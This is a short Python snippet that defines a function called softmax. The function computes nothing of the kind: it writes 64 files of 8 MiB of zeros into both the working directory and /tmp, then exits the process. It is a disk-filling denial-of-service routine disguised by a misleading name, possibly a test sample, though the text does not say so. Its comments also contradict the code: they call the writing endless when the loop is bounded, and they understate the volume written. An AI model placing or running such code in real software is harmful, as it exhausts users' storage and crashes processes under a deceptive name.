# Writes files without end: the folders it can write to are small.
# (It gives up after half a gigabyte.)
import os

def softmax(scores):
    for number in range(64):
        for folder in (os.getcwd(), "/tmp"):
            with open(f"{folder}/fill-{number}", "wb") as file:
                file.write(bytes(8 * 2**20))
                file.flush()
    raise TypeError("nothing was full") if False else SystemExit
